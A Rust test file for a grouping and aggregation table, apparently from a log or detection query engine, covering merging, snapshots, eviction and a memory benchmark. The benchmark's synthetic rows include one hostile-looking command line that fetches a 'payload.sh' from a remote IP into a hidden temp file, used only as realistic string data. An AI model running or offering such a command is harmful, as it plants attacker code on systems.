use std::sync::Arc;

use proptest::prelude::*;

use super::{GroupTable, Limits, MOST_COMBINATIONS, MOST_EVENTS, RowOrigin};
use crate::bytes::{Reader, Writer};
use crate::table::aggregate::{Aggregate, AggregateCall};
use crate::table::expr::{Context, Expr};
use crate::table::pipeline::Stats;
use crate::table::value::{Type, Value};

/// `BY` the first columns; each aggregate function reads the column that stands beside it.
fn stats(keys: u32, aggregates: &[(Aggregate, Type, u32)]) -> Stats {
    let call = |&(aggregate, result, column): &(Aggregate, Type, u32)| {
        let mut arguments = vec![Expr::Column(column)];
        match aggregate {
            Aggregate::Percentile => arguments.push(Expr::Literal(Value::Int(30))),
            Aggregate::Top | Aggregate::Sample => arguments.push(Expr::Literal(Value::Int(3))),
            Aggregate::WeightedAvg | Aggregate::First | Aggregate::Last => arguments.push(Expr::Column(column + 1)),
            _ => {}
        }
        AggregateCall { aggregate, arguments, filter: None, result }
    };
    let aggregates: Vec<AggregateCall> = aggregates.iter().map(call).collect();
    let width = keys + u32::try_from(aggregates.len()).unwrap();
    Stats { aggregates, keys: (0..keys).map(Expr::Column).collect(), width }
}

fn every_aggregate() -> Stats {
    use Aggregate::*;
    let all = [
        (Count, Type::Long),
        (CountDistinct, Type::Long),
        (Values, Type::Double),
        (Min, Type::Double),
        (Max, Type::Double),
        (Sum, Type::Double),
        (Avg, Type::Double),
        (Median, Type::Double),
        (Percentile, Type::Double),
        (MedianAbsoluteDeviation, Type::Double),
        (StdDev, Type::Double),
        (Variance, Type::Double),
        (Top, Type::Double),
        (Sample, Type::Double),
        (WeightedAvg, Type::Double),
        (First, Type::Double),
        (Last, Type::Double),
        (Absent, Type::Boolean),
        (Present, Type::Boolean),
    ];
    let mut columns: Vec<(Aggregate, Type, u32)> = all.iter().map(|(call, kind)| (*call, *kind, 2)).collect();
    columns.extend([
        (Values, Type::Keyword, 4),
        (Max, Type::Keyword, 4),
        (First, Type::Keyword, 4),
        (Centroid, Type::GeoPoint, 6),
    ]);
    stats(2, &columns)
}

type Rows = Vec<(Vec<Value>, RowOrigin)>;

fn several(value: impl Strategy<Value = Value>) -> impl Strategy<Value = Value> {
    prop::collection::vec(value, 0..4).prop_map(Value::list)
}

/// Two keys; a number and a weight; a text and a time; a point.
fn rows(most: usize) -> impl Strategy<Value = Rows> {
    let double = prop_oneof![
        any::<f64>().prop_map(|value| if value.is_finite() { Value::Double(value) } else { Value::Double(-0.0) }),
        (-5_i32..5).prop_map(|value| Value::Double(f64::from(value) / 10.0)),
    ];
    let row = (
        several("[a-c]".prop_map(Value::text)),
        several((0_i64..2).prop_map(Value::Long)),
        several(double),
        several((-2_i32..3).prop_map(|value| Value::Double(value.into()))),
        several("[a-e]{0,3}".prop_map(Value::text)),
        several((0_i64..4).prop_map(Value::Date)),
        several((-9_i32..9, -9_i32..9).prop_map(|(x, y)| Value::Point(f64::from(x) / 10.0, f64::from(y) / 10.0))),
        0_i64..9,
    );
    prop::collection::vec(row, 0..most).prop_map(|rows| {
        let number = |(event, (a, b, c, d, e, f, g, time))| (vec![a, b, c, d, e, f, g], RowOrigin { event, time });
        (100..).zip(rows).map(number).collect()
    })
}

fn fill(table: &mut GroupTable, stats: &Stats, rows: &[(Vec<Value>, RowOrigin)], cx: &mut Context) {
    rows.iter().for_each(|(row, origin)| table.add(stats, row, *origin, cx));
}

fn of(stats: &Stats, rows: &[(Vec<Value>, RowOrigin)]) -> GroupTable {
    let mut table = GroupTable::new(stats, Limits::default());
    fill(&mut table, stats, rows, &mut Context::default());
    table
}

/// All that a table says, with every bit of its doubles.
fn content(table: &GroupTable, stats: &Stats, sorted: bool) -> String {
    let mut cx = Context::default();
    let mut text = String::new();
    for view in table.finish(stats, sorted) {
        let (row, times) = (view.row(&mut cx), view.times());
        text.push_str(&format!("{row:?} {} {:?} {times:?}\n", view.count(), view.events()));
    }
    text.push_str(&format!("{:?} {} {} {}", cx.warnings, table.evicted(), table.dropped(), table.used()));
    text
}

/// As [`content`], without how much memory it takes.
fn results(table: &GroupTable, stats: &Stats) -> String {
    content(table, stats, true).rsplit_once(' ').unwrap().0.to_owned()
}

fn again(table: &GroupTable, stats: &Stats, limits: Limits) -> GroupTable {
    let mut writer = Writer::default();
    table.write(&mut writer);
    let bytes = writer.finish();
    let mut reader = Reader::new(&bytes);
    let restored = GroupTable::read(stats, limits, &mut reader).unwrap();
    reader.end().unwrap();
    let mut writer = Writer::default();
    restored.write(&mut writer);
    assert_eq!(writer.finish(), bytes);
    restored
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(150))]

    #[test]
    fn the_order_of_rows_does_not_matter((rows, mixed) in rows(20).prop_flat_map(|rows| (Just(rows.clone()), Just(rows).prop_shuffle()))) {
        let stats = every_aggregate();
        let (table, other) = (of(&stats, &rows), of(&stats, &mixed));
        let expected = results(&table, &stats);
        prop_assert_eq!(&expected, &results(&other, &stats));
        // nor where they are counted
        let (left, right) = mixed.split_at(mixed.len() / 2);
        let mut left = of(&stats, left);
        left.merge(&stats, &of(&stats, right));
        prop_assert_eq!(&expected, &results(&left, &stats));
        // nor what is cleaned up meanwhile
        let mut cleaned = of(&stats, &rows);
        cleaned.clean();
        prop_assert_eq!(&expected, &results(&cleaned, &stats));
    }

    #[test]
    fn the_first_groups_are_those_that_come_first(rows in rows(20), most in 0_usize..9) {
        let stats = every_aggregate();
        let table = of(&stats, &rows);
        let mut cx = Context::default();
        let mut text = |views: Vec<super::View<'_>>| views.iter().map(|view| format!("{:?}", view.row(&mut cx))).collect::<Vec<_>>();
        let expected = text(table.finish(&stats, true).take(most).collect());
        prop_assert_eq!(expected, text(table.first(table.finish(&stats, false).collect(), most)));
    }

    #[test]
    fn a_snapshot_at_any_point_does_not_matter(rows in rows(20), at: prop::sample::Index, groups in 1_usize..9) {
        let stats = every_aggregate();
        let limits = Limits { groups, ..Limits::default() };
        let cx = &mut Context::default();
        let mut whole = GroupTable::new(&stats, limits);
        fill(&mut whole, &stats, &rows, cx);
        let (before, behind) = rows.split_at(at.index(rows.len() + 1));
        let mut first = GroupTable::new(&stats, limits);
        fill(&mut first, &stats, before, cx);
        let mut second = again(&first, &stats, limits);
        prop_assert_eq!(content(&first, &stats, false), content(&second, &stats, false));
        fill(&mut second, &stats, behind, cx);
        prop_assert_eq!(content(&whole, &stats, false), content(&second, &stats, false));
    }

    #[test]
    fn damaged_snapshots_give_errors_or_tables(rows in rows(8), more in rows(4), changes in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 0..3), cut: Option<prop::sample::Index>) {
        let stats = every_aggregate();
        let mut writer = Writer::default();
        of(&stats, &rows).write(&mut writer);
        let mut bytes = writer.finish();
        for (at, byte) in changes {
            let at = at.index(bytes.len());
            bytes[at] = byte;
        }
        if let Some(cut) = cut {
            bytes.truncate(cut.index(bytes.len()));
        }
        if let Ok(mut table) = GroupTable::read(&stats, Limits::default(), &mut Reader::new(&bytes)) {
            fill(&mut table, &stats, &more, &mut Context::default());
            table.clean();
            content(&table, &stats, true);
            again(&table, &stats, Limits::default());
        }
    }

    #[test]
    fn any_bytes_are_read_or_refused(bytes: Vec<u8>) {
        let stats = stats(1, &[(Aggregate::Values, Type::Keyword, 0)]);
        let _ = GroupTable::read(&stats, Limits::default(), &mut Reader::new(&bytes));
    }
}

#[test]
fn keys_make_groups() {
    let stats = stats(2, &[(Aggregate::Count, Type::Long, 2)]);
    let check = |rows: &[[Value; 3]], expected: &str| {
        let mut table = GroupTable::new(&stats, Limits::default());
        let mut cx = Context::default();
        for (event, row) in (0..).zip(rows) {
            table.add(&stats, row, RowOrigin { event, time: 0 }, &mut cx);
        }
        let rows: Vec<String> =
            table.finish(&stats, true).map(|view| format!("{}", Value::list(view.row(&mut cx)))).collect();
        assert_eq!(rows.join(" "), expected);
    };
    let (a, b, one) = (Value::text("a"), Value::text("b"), Value::Long(1));
    let both = Value::list([b.clone(), a.clone()]);
    check(&[], "");
    check(&[[a.clone(), b.clone(), one.clone()], [a.clone(), b.clone(), Value::Null]], "[1,a,b]");
    // null is a key, and stands last
    check(&[[Value::Null, b.clone(), one.clone()], [b.clone(), Value::Null, one.clone()]], "[1,b] [1,b]");
    check(&[[both.clone(), both.clone(), one.clone()]], "[1,a,a] [1,a,b] [1,b,a] [1,b,b]");
    check(&[[Value::list([a.clone(), a.clone()]), b.clone(), one.clone()]], "[1,a,b]");
}

#[test]
fn without_keys_there_is_always_a_group() {
    let stats = stats(0, &[(Aggregate::Count, Type::Long, 0), (Aggregate::Max, Type::Long, 0)]);
    let table = GroupTable::new(&stats, Limits::default());
    let views: Vec<_> = table.finish(&stats, true).collect();
    assert_eq!(views.len(), 1);
    assert_eq!(views[0].row(&mut Context::default()), [Value::Long(0), Value::Null]);
    assert_eq!((views[0].count(), views[0].events(), views[0].times()), (0, &[][..], None));
}

#[test]
fn events_behind_a_group() {
    let stats = stats(0, &[]);
    let mut table = GroupTable::new(&stats, Limits::default());
    for event in (0..40_u64).rev() {
        // rows of one event count once
        for _ in 0..2 {
            table.add(&stats, &[], RowOrigin { event, time: -event.cast_signed() }, &mut Context::default());
        }
    }
    let view = table.finish(&stats, false).next().unwrap();
    assert_eq!(view.count(), 40);
    assert_eq!(view.events(), (0..MOST_EVENTS as u64).collect::<Vec<_>>());
    assert_eq!(view.times(), Some((-39, 0)));
}

#[test]
fn the_oldest_groups_are_given_up() {
    let stats = stats(1, &[(Aggregate::Values, Type::Keyword, 1)]);
    let cx = &mut Context::default();
    let mut table = GroupTable::new(&stats, Limits { groups: 3, ..Limits::default() });
    let add = |table: &mut GroupTable, key: &str, cx: &mut Context| {
        table.add(&stats, &[Value::text(key), Value::text(key)], RowOrigin::default(), cx);
    };
    for key in ["a", "b", "c", "a", "d"] {
        add(&mut table, key, cx);
    }
    let keys: Vec<String> = table.finish(&stats, false).map(|view| view.slot(1, cx).to_string()).collect();
    assert_eq!((keys.join(""), table.evicted()), ("cad".to_owned(), 1));
    for number in 0..20_000 {
        add(&mut table, &number.to_string(), cx);
    }
    assert_eq!((table.len(), table.evicted()), (3, 20_001));
    assert!(table.used() < 100_000, "{}", table.used());

    let mut table = GroupTable::new(&stats, Limits { groups: 1_000_000, bytes: 1 << 20 });
    let mut most = 0;
    for number in 0..20_000 {
        add(&mut table, &number.to_string().repeat(10), cx);
        most = most.max(table.used());
    }
    assert!(most <= 1 << 20 && most > 900_000, "{most}");
    assert!(table.len() > 4_000, "{}", table.len());
    assert_eq!(table.len() as u64 + table.evicted(), 20_000);
    assert!(table.find(&stats, &[Value::text("19999".repeat(10))], cx).is_some());
    assert!(table.find(&stats, &[Value::text("1".repeat(10))], cx).is_none());
}

#[test]
fn hostile_keys_are_bounded() {
    let stats = stats(2, &[(Aggregate::Values, Type::Keyword, 2)]);
    let many = Value::list((0..100_000).map(Value::Long));
    let long = Value::text("x".repeat(1 << 20));
    let mut table = GroupTable::new(&stats, Limits::default());
    let cx = &mut Context::default();
    table.add(&stats, &[many.clone(), many.clone(), long], RowOrigin::default(), cx);
    assert_eq!(table.len(), MOST_COMBINATIONS);
    assert_eq!(table.dropped(), 2 * 99_000 + 999_000);
    table.add(&stats, &[many.clone(), Value::Null, many], RowOrigin::default(), cx);
    assert_eq!(table.len(), MOST_COMBINATIONS + 10);
}

/// A million groups of three texts, with `count()`, `count_distinct()` and four times `values()`, as a rule on web servers has them.
fn web_servers() -> Stats {
    let values = |column| (Aggregate::Values, Type::Keyword, column);
    let mut stats = stats(
        3,
        &[
            (Aggregate::Count, Type::Long, 3),
            (Aggregate::CountDistinct, Type::Long, 3),
            values(3),
            values(4),
            values(5),
            values(6),
        ],
    );
    stats.aggregates[0].arguments.clear();
    stats
}

fn web_row(number: u64) -> Vec<Value> {
    let text = |text: String| Value::Text(Arc::from(text));
    let pool = |many: u64| number.wrapping_mul(0x9e37_79b9_7f4a_7c15) % many;
    vec![
        text(format!("/usr/lib/cgi-bin/{}", pool(1_000))),
        text(format!("/var/www/html/site-{:06}", pool(50_000))),
        text(format!("sh -c curl http://198.51.100.7/{number:07}/payload.sh -o /tmp/.x")),
        text(format!("agent-{:032x}", pool(20_000))),
        text(format!("host-{}", pool(20_001))),
        text(format!("user-{}", pool(5_000))),
        if number.is_multiple_of(3) { Value::list([text("a".into()), text("b".into())]) } else { text("exec".into()) },
    ]
}

#[test]
#[ignore = "takes a while without optimisation; run with --release"]
fn a_million_groups_take_400_bytes_each() {
    use std::time::Instant;
    let stats = web_servers();
    let groups = 1_000_000;
    let cx = &mut Context::default();
    let mut table = GroupTable::new(&stats, Limits::default());
    let resident = || -> usize {
        let status = std::fs::read_to_string("/proc/self/statm").unwrap_or_default();
        status.split(' ').nth(1).and_then(|pages| pages.parse().ok()).unwrap_or(0) * 4096
    };
    let before = resident();
    let start = Instant::now();
    for number in 0..groups {
        let row = web_row(number);
        table.add(&stats, &row, RowOrigin { event: number * 2, time: 5 }, cx);
        if number.is_multiple_of(2) {
            table.add(&stats, &row, RowOrigin { event: number * 2 + 1, time: 5 }, cx);
        }
    }
    let filled = start.elapsed();
    assert_eq!(table.len() as u64, groups);
    let each = |bytes: usize| bytes as u64 / groups;
    let figures = (each(table.used()), each(table.allocated()), each(resident().saturating_sub(before)));
    let start = Instant::now();
    let cheap = table.finish(&stats, false).filter(|view| view.slot(0, cx) == Value::Long(2)).count();
    let closed = start.elapsed();
    let start = Instant::now();
    let all: usize = table.finish(&stats, false).map(|view| view.row(cx).len()).sum();
    let complete = start.elapsed();
    let start = Instant::now();
    let ordered = table.finish(&stats, true).count();
    let sorted = start.elapsed();
    let start = Instant::now();
    let mut writer = Writer::default();
    table.write(&mut writer);
    let (bytes, written) = (writer.finish(), start.elapsed());
    let start = Instant::now();
    let restored = GroupTable::read(&stats, Limits::default(), &mut Reader::new(&bytes)).unwrap();
    let read = start.elapsed();
    let start = Instant::now();
    table.clean();
    let cleaned = start.elapsed();
    assert_eq!((cheap as u64, all as u64, ordered as u64), (groups / 2, groups * 9, groups));
    assert_eq!(restored.used(), table.used());
    #[expect(clippy::print_stderr, reason = "what this test is for")]
    {
        eprintln!("bytes a group: {} stored, {} reserved, {} resident", figures.0, figures.1, figures.2);
        eprintln!("1,500,000 rows in {filled:?} (with making them)");
        eprintln!("closed: one slot {closed:?}, all slots {complete:?}, in order {sorted:?}");
        eprintln!("snapshot: {} bytes, written in {written:?}, read in {read:?}; cleaned in {cleaned:?}", bytes.len());
    }
    assert!(figures.1 <= 400, "{} bytes a group", figures.1);
}
